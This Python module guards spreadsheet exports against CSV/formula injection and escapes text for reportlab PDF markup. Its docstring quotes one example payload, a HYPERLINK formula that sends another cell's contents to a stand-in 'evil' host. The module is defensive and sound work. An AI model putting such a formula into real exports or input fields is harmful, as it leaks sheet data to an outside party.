"""Cells people wrote, made safe to open in a spreadsheet, and text made safe for PDF markup.

A name such as `=HYPERLINK("http://evil/?"&A1,"klik")` typed into a nomination list is data to
Lindung but a formula to Excel or LibreOffice once it is exported: it may fetch a URL carrying
the sheet's other cells, or run a command (CSV/formula injection). Every CSV and XLSX export
passes its text cells through :func:`safe_cell` (OWASP's rule: a text cell starting with `=`,
`+`, `-`, `@`, tab or carriage return gets a leading `'`, which spreadsheets show as text).
Numbers stay numbers: a negative amount stored as an int is not a cell a person wrote.

reportlab's Paragraph reads its text as XML-like markup: :func:`pdf_text` escapes it, so a name
with `<` or `&` prints as written instead of breaking (or styling) the document.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, Protocol
from xml.sax.saxutils import escape

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet should hold it: a text starting like a formula gets a leading `'`;
    anything else (numbers, dates, None, other text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(c) for c in cells]


class RowWriter(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeWriter:
    """A csv.writer (or anything with `writerow`) whose rows go through :func:`safe_row`."""

    def __init__(self, writer: RowWriter) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def pdf_text(value: object) -> str:
    """`value` as text for a reportlab Paragraph: `&`, `<` and `>` escaped."""
    return escape(str(value))
